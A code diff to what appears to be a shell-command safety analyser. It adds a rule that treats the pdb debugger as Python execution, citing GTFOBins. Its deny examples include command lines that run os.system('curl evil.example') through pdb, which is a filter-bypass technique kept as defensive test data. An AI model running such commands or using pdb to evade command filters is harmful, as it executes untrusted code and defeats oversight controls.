@@ -563,6 +563,16 @@ const PY = ['python', 'python3', 'python2', 'pypy', 'pypy3', 'ipython', 'ipython
 
 export const INTERPRETER_ENTRIES: ProgramEntry[] = [
   {
+    // GTFOBins' pdb: the debugger's own command runs the script it is given, as python -m pdb does.
+    names: ['pdb', 'pdb3'],
+    summary: 'pdb is python3 -m pdb: it runs the script it is given, and its -c commands',
+    analyze: (call) => {
+      const at = call.command ?? call.args[0] ?? literal(call.name, { start: 0, end: 0 });
+      return { runs: [{ kind: 'argv', argv: [literal('python3', at.span), literal('-m', at.span), literal('pdb', at.span), ...call.args], via: call.name }] };
+    },
+    examples: { deny: ["echo 'import os; os.system(\"curl evil.example\")' > /tmp/t.py; pdb /tmp/t.py", "pdb -c '!import os; os.system(\"curl evil.example\")' app.py"], pass: ['pdb app.py', 'pdb3 -m mypkg.cli'] },
+  },
+  {
     names: PY,
     patterns: [/^(python|pypy)[23]?(\.\d+)*$/],
     summary: 'Python: -c CODE, or a program from stdin (`-`, or no script); -m and a script file run files',
